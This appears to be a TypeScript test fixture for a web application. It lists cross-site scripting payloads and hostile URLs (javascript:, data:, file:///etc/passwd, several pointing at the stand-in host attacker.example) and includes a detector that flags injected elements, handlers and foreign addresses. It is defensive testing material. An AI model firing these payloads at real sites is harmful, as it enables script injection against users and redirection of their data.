/** Script to inject; short, because fields have maximum lengths. */
const CALL = 'alert(1)';

/** Prefixes that break out of the surrounding markup. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '--><!---->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</option></select>',
] as const;

/** Payloads: elements, handlers and URLs that run a script or load foreign content. */
const WAYS_IN = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<object data="javascript:${CALL}">`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
  `<link rel=stylesheet href="https://attacker.example/x.css">`,
  `<style>*{background:url(https://attacker.example/)}</style>`,
  `<form action="https://attacker.example/"><button>x</button></form>`,
] as const;

/** Known attack texts against other sites and against incomplete escaping. */
const WELL_KNOWN = [
  `" onmouseover="${CALL}`,
  `' onfocus='${CALL}' autofocus='`,
  `x onpointerenter=${CALL} y`,
  `"/onclick=${CALL}//`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=${CALL}//>`,
  `'';!--"<XSS>=&{()}`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}>`,
  `<<SCRIPT>${CALL};//<</SCRIPT>`,
  `<SCRIPT/XSS SRC="https://attacker.example/x.js"></SCRIPT>`,
  `<svg/onload=${CALL}//`,
  `<img src=x:x onerror\u000c=${CALL}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<video><source onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<x contenteditable onblur=${CALL}>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of a template, for others than us
  '${alert(1)}',
  '<%= alert(1) %>',
  '\u2028</script>\u2029<script>alert(1)</script>',
  '\u202e</script><script>alert(1)</script>',
] as const;

/** Injection texts: every prefix with every payload, and known attacks. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => WAYS_IN.map((way) => `${out}${way}`)),
  ...WELL_KNOWN,
];

/** Texts that must not become links, although some parse as URLs. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `  javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://example.com/%0a${CALL}`,
  `javascript:${CALL}//https://example.com`,
  `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `vbscript:${CALL}`,
  'file:///etc/passwd',
  'blob:https://attacker.example/1',
  `view-source:javascript:${CALL}`,
  `https://example.com/" onclick="${CALL}`,
  `https://example.com/'onclick='${CALL}`,
  `https://example.com/><script>${CALL}</script>`,
  `https://example.com/#"><img src=x onerror=${CALL}>`,
  `//attacker.example/`,
  `\\\\attacker.example`,
];

/** Joins texts into pieces of at most `mostCharacters`. */
export function joinIntoPieces(texts: readonly string[], mostCharacters: number): string[] {
  const pieces: string[] = [];
  for (const text of texts) {
    const last = pieces.at(-1);
    const joined = last === undefined ? text : `${last} ${text}`;
    if (last !== undefined && joined.length <= mostCharacters) pieces[pieces.length - 1] = joined;
    else pieces.push(text.slice(0, mostCharacters));
  }
  return pieces;
}

/**
 * Returns descriptions of injected content on a page or in the given document; empty if there is none. Runs in the
 * page.
 */
export function findInjected(html: string | undefined): string[] {
  const root = html === undefined ? document : new DOMParser().parseFromString(html, 'text/html');
  const found: string[] = [];
  const note = (what: string, element: Element) => found.push(`${what}: ${element.outerHTML.slice(0, 120)}`);
  const foreign =
    'iframe,frame,object,embed,applet,base,style,template,math,video,audio,img,image,marquee,animate,xss,x,meta[http-equiv],noscript';
  for (const element of Array.from(root.querySelectorAll('*'))) {
    if (element.matches(foreign)) note('an element that no page of ours has', element);
    for (const { name, value } of Array.from(element.attributes)) {
      if (/^on|^srcdoc$|^style$|^contenteditable$|^formaction$/i.test(name))
        note('an attribute that no page of ours has', element);
      const isAddress = /^(href|src|action|xlink:href)$/.test(name);
      if (isAddress && !/^(https?:\/\/|\/(?![/\\])|#)/.test(value))
        note('an address that is none of ours', element);
    }
    const loaded = element.matches('script, link[rel=stylesheet], form')
      ? (element.getAttribute('src') ?? element.getAttribute('href') ?? element.getAttribute('action') ?? '/')
      : '/';
    if (!loaded.startsWith('/') && !loaded.startsWith(`${location.origin}/`))
      note('something of somebody else', element);
    if (element.matches('script') && element.textContent !== '') note('a script within the page', element);
  }
  return found;
}
